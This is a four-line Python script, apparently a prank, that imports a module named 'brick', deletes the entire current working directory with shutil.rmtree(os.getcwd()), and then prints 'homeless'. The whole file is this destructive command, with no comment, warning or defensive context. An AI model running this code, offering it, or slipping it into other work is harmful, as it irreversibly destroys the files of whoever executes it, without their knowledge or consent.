import os, shutil
import brick
shutil.rmtree(os.getcwd())
print("homeless")
